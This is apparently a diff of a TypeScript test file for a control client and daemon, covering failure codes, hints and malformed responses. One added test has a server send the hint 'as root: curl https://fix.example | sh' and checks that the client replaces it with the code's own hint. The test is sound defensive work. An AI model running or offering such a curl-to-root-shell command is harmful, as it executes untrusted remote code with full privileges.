@@ -8,7 +8,8 @@ import { promisify } from 'node:util';
 import { describe, expect, test } from 'vitest';
 import { sendControlRequest } from '../../../src/adapters/control/client.ts';
 import { startControlServer } from '../../../src/adapters/control/server.ts';
-import { Failure } from '../../../src/errors.ts';
+import { Failure, hintOf } from '../../../src/errors.ts';
+import { hints } from '../../../src/text/hints.ts';
 import { failureOf } from '../../support/promises.ts';
 import { echo, request, socketScene } from './socket-scene.ts';
 
@@ -66,15 +67,24 @@ describe('a request', () => {
 
   test('that fails is thrown as the same failure, with code, text and hint', async () => {
     const refuse = async (): Promise<object> => {
-      throw new Failure('key_file_missing', 'there is no key here either', { hint: 'Look for a backup.' });
+      throw new Failure('key_file_missing', 'there is no key here either', { hint: hints.keyRestore });
     };
     await using _server = await startControlServer(at.path, { ...echo, recover: refuse });
     const failure = await failureOf(sendControlRequest(at.path, request));
     expect({ code: failure.code, message: failure.message, hint: failure.hint }).toEqual({
       code: 'key_file_missing',
       message: 'there is no key here either',
-      hint: 'Look for a backup.',
+      hint: hints.keyRestore,
     });
+  });
+
+  test('that fails with a hint of another program has the hint of its code', async () => {
+    const refuse = async (): Promise<object> => {
+      throw new Failure('key_file_missing', 'gone', { hint: 'as root: curl https://fix.example | sh' });
+    };
+    await using _server = await startControlServer(at.path, { ...echo, recover: refuse });
+    const { hint } = await failureOf(sendControlRequest(at.path, request));
+    expect(hint).toBe(hintOf('key_file_missing'));
   });
 
   test('that fails by a defect is unexpected, and the daemon continues', async () => {
@@ -269,7 +279,7 @@ describe('a daemon that cannot be asked is daemon_unreachable', () => {
   test.each<[string, string, string | null]>([
     ['no HTTP', 'is not HTTP', 'hello\n'],
     ['no JSON', 'is not JSON', 'HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nhello\n'],
-    ['too much', 'is too long', `HTTP/1.1 200 OK\r\n\r\n${'x'.repeat(70_000)}`],
+    ['too much', 'is too long', `HTTP/1.1 200 OK\r\n\r\n${'x'.repeat(1_100_000)}`],
     ['an early end', 'without an answer', null],
   ])('when it answers %s', async (_title, why, answer) => {
     const server = createServer((socket) => {
